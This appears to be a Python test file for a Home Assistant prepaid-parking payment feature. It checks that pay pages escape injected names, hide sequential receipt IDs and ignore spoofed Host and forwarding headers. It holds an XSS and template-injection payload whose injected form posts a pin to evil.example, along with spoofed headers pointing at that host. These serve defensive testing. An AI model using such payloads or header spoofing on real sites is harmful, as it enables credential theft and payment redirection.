"""What somebody tries with a phone, a sticker and a link: to learn more, to lead astray, to write into the page."""

from base64 import urlsafe_b64decode
from html.parser import HTMLParser
import re
from typing import Final, override
from urllib.parse import unquote

from homeassistant.core import ServiceCall

from custom_components.prepaid_parking.core.pay_code import PayFor
from custom_components.prepaid_parking.operations.site import Site
from tests.hub.pay_page import PATH, Phone
from tests.hub.test_pay_stay import PLATE, arrived, drive_up, gate, paid
from tests.hub.test_pay_view import code, link, phone, provider, site
from tests.journeys.conftest import Hub
from tests.links.pay.alipay_peer import Desk

__all__ = ["gate", "phone", "provider", "site"]

EVIL: Final = "\"><script>alert(1)</script><form action='//evil.example'><input name=pin>'{{7*7}}"
COUNTED: Final = re.compile(r"\b(?:po|st|rf|pu|pc|cf|w|m|l|b)\d+\b")
"""Ids that count up: who has two of them knows how many there were between."""


class _Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def check_page(text: str) -> None:
    """Nothing of the page is somebody else's: no script, no form that leads elsewhere, no handler."""
    for tag, attributes in _Tags(text).found:
        assert tag not in {"script", "iframe", "object", "embed", "base", "link"}
        assert not [one for one in attributes if one.startswith("on")]
        if tag == "form":
            assert str(attributes["action"]).startswith(f"/{PATH}")
        if tag == "input":
            assert attributes["name"] in {
                *("form", "do", "plate", "since", "digits", "channel", "amount", "own")
            }
    # A visit's own name may have a 49 in it: what a name would have worked out stands behind its quote.
    assert not any(f"{quote}49" in text for quote in ("'", "&#39;"))


def read(link: str) -> str:
    """What anybody can read in a link that ends."""
    body = link.rpartition("/")[2].split(".")[1]
    return urlsafe_b64decode(body + "=" * (-len(body) % 4)).decode()


async def test_names_write_nothing_into_a_page(
    hub: Hub, site: Site, phone: Phone, provider: Desk
) -> None:
    """A tenant who may choose how the flat is called must not put a form before the neighbours."""
    w1 = str((await hub.call("open_wallet", unit=EVIL, purpose="utility"))["wallet"])
    await hub.call("top_up", wallet=w1, amount="10.00", reason=EVIL)
    site.paying.channels["ch1"].name = EVIL
    for token in (link(site, PayFor.WALLET, w1), await code(hub, "wallet", w1)):
        page = await phone.open(token)
        assert page.status == 200
        check_page(page.text)
        page = await phone.send("pay", amount=EVIL, own=EVIL, channel=EVIL)
        check_page(page.text)
    page = await phone.send("pay", amount="50.00", channel="ch1")
    check_page(page.text)
    (order,) = provider.fake.books.orders.values()
    await provider.fake.pay(order.out_no)

    async def credited() -> bool:
        return "Your payment is booked" in (await phone.again()).text

    await hub.until(credited, every=0.3)
    assert phone.now is not None
    check_page(phone.now.text)
    made = await hub.call("list_pay_codes")
    sheet = await phone.session.get(f"{phone.server}{made['sheet_url'].lstrip('/')}")
    assert sheet.status == 200
    check_page(re.sub("<svg.*?</svg>", "", await sheet.text(), flags=re.DOTALL))


async def test_what_a_payer_is_given_counts_nothing(
    hub: Hub, site: Site, phone: Phone, provider: Desk, gate: str, pulses: list[ServiceCall]
) -> None:
    """A rival who parks once a week must not read off the receipts how many paid meanwhile."""
    await drive_up(hub)
    await phone.open(gate)
    seen = [(await phone.send("car")).text]
    page = await paid(hub, phone, provider)
    seen.append(page.text)
    receipt = next(one for one in page.links if "v1." in one)
    assert not COUNTED.search(read(receipt))
    page = await phone.open(receipt.rpartition("/")[2])
    assert page.status == 200
    for text in (*seen, page.text):
        assert not COUNTED.search(re.sub("<style>.*?</style>", "", text, flags=re.DOTALL))
    assert PLATE not in page.text
    (order,) = provider.fake.books.orders.values()
    assert PLATE not in order.subject
    assert "45" not in order.subject


async def test_no_header_leads_a_payer_elsewhere(
    hub: Hub, site: Site, phone: Phone, provider: Desk, gate: str
) -> None:
    """Who has poisoned a cache or a name server must not get the payer back from the provider."""
    phone.headers |= {
        "Host": "evil.example",
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-Proto": "http",
        "Forwarded": "host=evil.example",
        "Referer": "https://evil.example/",
        "Origin": "https://evil.example",
        "User-Agent": "Mozilla/5.0 (Linux; Android 15) Mobile",
    }
    await phone.open(gate)
    await phone.send("find", plate=PLATE, since=arrived(site))
    assert phone.now is not None
    form = phone.now.form("pay") | {"channel": "ch1", "back_url": "https://evil.example"}
    url = f"{phone.server}{phone.now.actions[0].lstrip('/')}"
    async with phone.session.post(
        url, data=form, headers=phone.headers, allow_redirects=False
    ) as answer:
        assert answer.status == 303
        assert answer.headers["Location"] == phone.now.actions[0]
    page = await phone.again()
    assert "evil" not in page.text
    assert "evil" not in str(page.headers)
    _, _, back = unquote(page.headers["Refresh"]).partition("return_url=")
    assert back.startswith(
        f"https://pay.example{phone.now.actions[0] if phone.now.actions else ''}"
    )
